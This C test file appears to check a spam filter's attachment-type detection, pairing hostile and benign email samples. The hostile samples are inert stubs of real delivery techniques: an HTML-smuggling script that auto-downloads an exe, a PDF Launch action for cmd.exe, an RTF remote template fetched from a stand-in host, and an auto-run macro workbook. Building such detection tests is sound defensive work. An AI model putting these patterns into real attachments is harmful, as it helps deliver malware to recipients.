#include "config.h"

#include "lib/spam/groups.h"
#include "tests/spam/group-cases.h"

static const ElmGroupCase cases[] = {
	{ "ATTACH_PROGRAM", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/octet-stream; "
	    "name=\"a.exe\"\nContent-Disposition: attachment; "
	    "filename=\"a.exe\"\nContent-Transfer-Encoding: "
	    "base64\n\nTVqQAAMAAAAEAAAA//"
	    "8AALgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\nAAAAQA"
	    "AAAFBFAABMAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAA\nAAAAAAAAAAAAAAAAAAAAAA==\n--=_part--\n" },
	{ "ATTACH_PROGRAM", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: text/plain; "
	    "name=\"exe.txt\"\nContent-Disposition: attachment; "
	    "filename=\"exe.txt\"\nContent-Transfer-Encoding: 7bit\n\nno "
	    "program\n--=_part--\n" },
	{ "ATTACH_PROGRAM_INSIDE", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/zip; "
	    "name=\"a.zip\"\nContent-Disposition: attachment; "
	    "filename=\"a.zip\"\nContent-Transfer-Encoding: "
	    "base64\n\nUEsDBBQAAAAAAAAAIVBTYQp9ggAAAIIAAAAFAAAAYS5leGVNWpAAAwAA"
	    "AAQAAAD//"
	    "wAAuAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABAA"
	    "AAAUEUAAEwBAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAUEsBAhQD\nFAAAAAAAAAAhUFNhCn2CAAAAggAAA"
	    "AUAAAAAAAAAAAAAAIABAAAAAGEuZXhlUEsFBgAAAAABAAEA\nMwAAAKUAAAAAAA=="
	    "\n--=_part--\n" },
	{ "ATTACH_PROGRAM_INSIDE", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/zip; "
	    "name=\"a.zip\"\nContent-Disposition: attachment; "
	    "filename=\"a.zip\"\nContent-Transfer-Encoding: "
	    "base64\n\nUEsDBBQAAAAAAAAAIVCGphA2BQAAAAUAAAAFAAAAYS50eHRoZWxsb1BL"
	    "AQIUAxQAAAAAAAAAIVCG\nphA2BQAAAAUAAAAFAAAAAAAAAAAAAACAAQAAAABhLnR4"
	    "dFBLBQYAAAAAAQABADMAAAAoAAAAAAA=\n--=_part--\n" },
	{ "ATTACH_SCRIPT", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/octet-stream; "
	    "name=\"a.vbs\"\nContent-Disposition: attachment; "
	    "filename=\"a.vbs\"\nContent-Transfer-Encoding: 7bit\n\nMsgBox "
	    "1\n--=_part--\n" },
	{ "ATTACH_SCRIPT", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: text/plain; "
	    "name=\"a.txt\"\nContent-Disposition: attachment; "
	    "filename=\"a.txt\"\nContent-Transfer-Encoding: 7bit\n\nMsgBox "
	    "1\n--=_part--\n" },
	{ "ATTACH_SHORTCUT", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/octet-stream; "
	    "name=\"a.lnk\"\nContent-Disposition: attachment; "
	    "filename=\"a.lnk\"\nContent-Transfer-Encoding: "
	    "base64\n\nTAAAAAEUAgAAAAAAwAAAAAAAAEYAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAAAAAAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n--=_part--"
	    "\n" },
	{ "ATTACH_SHORTCUT", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: text/plain; "
	    "name=\"lnk.txt\"\nContent-Disposition: attachment; "
	    "filename=\"lnk.txt\"\nContent-Transfer-Encoding: "
	    "7bit\n\na\n--=_part--\n" },
	{ "ATTACH_DISK_IMAGE", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/octet-stream; "
	    "name=\"a.iso\"\nContent-Disposition: attachment; "
	    "filename=\"a.iso\"\nContent-Transfer-Encoding: "
	    "base64\n\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAAAAAAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAAAAAAAAAAAA==\n--=_part--\n" },
	{ "ATTACH_DISK_IMAGE", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: text/plain; "
	    "name=\"iso.txt\"\nContent-Disposition: attachment; "
	    "filename=\"iso.txt\"\nContent-Transfer-Encoding: "
	    "7bit\n\na\n--=_part--\n" },
	{ "ATTACH_MACRO_AUTO", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/octet-stream; "
	    "name=\"a.xlsm\"\nContent-Disposition: attachment; "
	    "filename=\"a.xlsm\"\nContent-Transfer-Encoding: "
	    "base64\n\nUEsDBBQAAAAAAAAAIVBMHHFZbwAAAG8AAAAPAAAAeGwvd29ya2Jvb2su"
	    "eG1sPHdvcmtib29rPjxk\nZWZpbmVkTmFtZXM+"
	    "PGRlZmluZWROYW1lIG5hbWU9Il94bG5tLkF1dG9fT3BlbiI+"
	    "TWFjcm8xISRB\nJDE8L2RlZmluZWROYW1lPjwvZGVmaW5lZE5hbWVzPjwvd29ya2Jv"
	    "b2s+"
	    "UEsBAhQDFAAAAAAAAAAh\nUEwccVlvAAAAbwAAAA8AAAAAAAAAAAAAAIABAAAAAHhs"
	    "L3dvcmtib29rLnhtbFBLBQYAAAAAAQAB\nAD0AAACcAAAAAAA=\n--=_part--"
	    "\n" },
	{ "ATTACH_MACRO_AUTO", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/octet-stream; "
	    "name=\"a.xlsx\"\nContent-Disposition: attachment; "
	    "filename=\"a.xlsx\"\nContent-Transfer-Encoding: "
	    "base64\n\nUEsDBBQAAAAAAAAAIVDniI2aHgAAAB4AAAAPAAAAeGwvd29ya2Jvb2su"
	    "eG1sPHdvcmtib29rPjxz\naGVldHMvPjwvd29ya2Jvb2s+"
	    "UEsBAhQDFAAAAAAAAAAhUOeIjZoeAAAAHgAAAA8AAAAAAAAAAAAA\nAIABAAAAAHhs"
	    "L3dvcmtib29rLnhtbFBLBQYAAAAAAQABAD0AAABLAAAAAAA=\n--=_part--\n" },
	{ "ATTACH_REMOTE", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/rtf; "
	    "name=\"a.rtf\"\nContent-Disposition: attachment; "
	    "filename=\"a.rtf\"\nContent-Transfer-Encoding: "
	    "7bit\n\n{\\rtf1{\\*\\template "
	    "http://example.com/a.dotm}}\n--=_part--\n" },
	{ "ATTACH_REMOTE", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/rtf; "
	    "name=\"a.rtf\"\nContent-Disposition: attachment; "
	    "filename=\"a.rtf\"\nContent-Transfer-Encoding: "
	    "7bit\n\n{\\rtf1\\ansi hello}\n--=_part--\n" },
	{ "ATTACH_MACRO", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/octet-stream; "
	    "name=\"a.docm\"\nContent-Disposition: attachment; "
	    "filename=\"a.docm\"\nContent-Transfer-Encoding: "
	    "base64\n\nUEsDBBQAAAAAAAAAIVCDFtyMAQAAAAEAAAATAAAAd29yZC92YmFQcm9q"
	    "ZWN0LmJpbnhQSwECFAMU\nAAAAAAAAACFQgxbcjAEAAAABAAAAEwAAAAAAAAAAAAAA"
	    "gAEAAAAAd29yZC92YmFQcm9qZWN0LmJp\nblBLBQYAAAAAAQABAEEAAAAyAAAAAAA="
	    "\n--=_part--\n" },
	{ "ATTACH_MACRO", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/pdf; "
	    "name=\"a.pdf\"\nContent-Disposition: attachment; "
	    "filename=\"a.pdf\"\nContent-Transfer-Encoding: "
	    "7bit\n\n%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 "
	    "0 obj <</Type/Pages/Kids[]/Count 0>> endobj\ntrailer <</Root 1 0 "
	    "R>>\n%%EOF\n--=_part--\n" },
	{ "ATTACH_ACTIVE_PDF", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/pdf; "
	    "name=\"a.pdf\"\nContent-Disposition: attachment; "
	    "filename=\"a.pdf\"\nContent-Transfer-Encoding: "
	    "7bit\n\n%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction "
	    "3 0 R>> endobj\n3 0 obj <</S/JavaScript/JS(app.alert\\(1\\))>> "
	    "endobj\n2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\ntrailer "
	    "<</Root 1 0 R>>\n%%EOF\n--=_part--\n" },
	{ "ATTACH_ACTIVE_PDF", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/pdf; "
	    "name=\"a.pdf\"\nContent-Disposition: attachment; "
	    "filename=\"a.pdf\"\nContent-Transfer-Encoding: "
	    "7bit\n\n%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 "
	    "0 obj <</Type/Pages/Kids[]/Count 0>> endobj\ntrailer <</Root 1 0 "
	    "R>>\n%%EOF\n--=_part--\n" },
	{ "ATTACH_LAUNCH", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/pdf; "
	    "name=\"a.pdf\"\nContent-Disposition: attachment; "
	    "filename=\"a.pdf\"\nContent-Transfer-Encoding: "
	    "7bit\n\n%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction "
	    "3 0 R>> endobj\n3 0 obj <</S/Launch/F(cmd.exe)>> endobj\n2 0 obj "
	    "<</Type/Pages/Kids[]/Count 0>> endobj\ntrailer <</Root 1 0 "
	    "R>>\n%%EOF\n--=_part--\n" },
	{ "ATTACH_LAUNCH", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/pdf; "
	    "name=\"a.pdf\"\nContent-Disposition: attachment; "
	    "filename=\"a.pdf\"\nContent-Transfer-Encoding: "
	    "7bit\n\n%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n3 "
	    "0 obj <</S/URI/URI(http://example.com/)>> endobj\n2 0 obj "
	    "<</Type/Pages/Kids[]/Count 0>> endobj\ntrailer <</Root 1 0 "
	    "R>>\n%%EOF\n--=_part--\n" },
	{ "ATTACH_SMUGGLING", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: text/html; "
	    "name=\"a.html\"\nContent-Disposition: attachment; "
	    "filename=\"a.html\"\nContent-Transfer-Encoding: "
	    "7bit\n\n<html><script>var b=new Blob([atob(\"TVqQ\")]);var "
	    "u=URL.createObjectURL(b);var "
	    "a=document.createElement(\"a\");a.href=u;a.download=\"a.exe\";a."
	    "click();</script></html>\n--=_part--\n" },
	{ "ATTACH_SMUGGLING", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: text/html; "
	    "name=\"a.html\"\nContent-Disposition: attachment; "
	    "filename=\"a.html\"\nContent-Transfer-Encoding: "
	    "7bit\n\n<html><p>hello</p></html>\n--=_part--\n" },
	{ "ATTACH_SVG_SCRIPT", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: image/svg+xml; "
	    "name=\"a.svg\"\nContent-Disposition: attachment; "
	    "filename=\"a.svg\"\nContent-Transfer-Encoding: 7bit\n\n<svg "
	    "xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></"
	    "svg>\n--=_part--\n" },
	{ "ATTACH_SVG_SCRIPT", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: image/svg+xml; "
	    "name=\"a.svg\"\nContent-Disposition: attachment; "
	    "filename=\"a.svg\"\nContent-Transfer-Encoding: 7bit\n\n<svg "
	    "xmlns=\"http://www.w3.org/2000/svg\"><circle "
	    "r=\"1\"/></svg>\n--=_part--\n" },
	{ "ATTACH_ONENOTE", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/octet-stream; "
	    "name=\"a.one\"\nContent-Disposition: attachment; "
	    "filename=\"a.one\"\nContent-Transfer-Encoding: "
	    "base64\n\n5FJce4zYp02usVN40CmW0wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAAAAAAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAAAAAA==\n--=_part--"
	    "\n" },
	{ "ATTACH_ONENOTE", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: text/plain; "
	    "name=\"one.txt\"\nContent-Disposition: attachment; "
	    "filename=\"one.txt\"\nContent-Transfer-Encoding: "
	    "7bit\n\na\n--=_part--\n" },
	{ "ATTACH_RTF", TRUE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: application/rtf; "
	    "name=\"a.rtf\"\nContent-Disposition: attachment; "
	    "filename=\"a.rtf\"\nContent-Transfer-Encoding: "
	    "7bit\n\n{\\rtf1\\ansi hello}\n--=_part--\n" },
	{ "ATTACH_RTF", FALSE,
	    "From: Ann <ann@example.org>\nTo: <reader@example.net>\nSubject: "
	    "hello\nMIME-Version: 1.0\nContent-Type: multipart/mixed; "
	    "boundary=\"=_part\"\n\n--=_part\nContent-Type: text/plain\n\nSee "
	    "the file.\n--=_part\nContent-Type: text/plain; "
	    "name=\"rtf.txt\"\nContent-Disposition: attachment; "
	    "filename=\"rtf.txt\"\nContent-Transfer-Encoding: "
	    "7bit\n\na\n--=_part--\n" },
};

int
main(int argc G_GNUC_UNUSED, char **argv)
{
	return elm_group_cases_main(argv, &elm_group_attachment_type, cases,
	    G_N_ELEMENTS(cases));
}
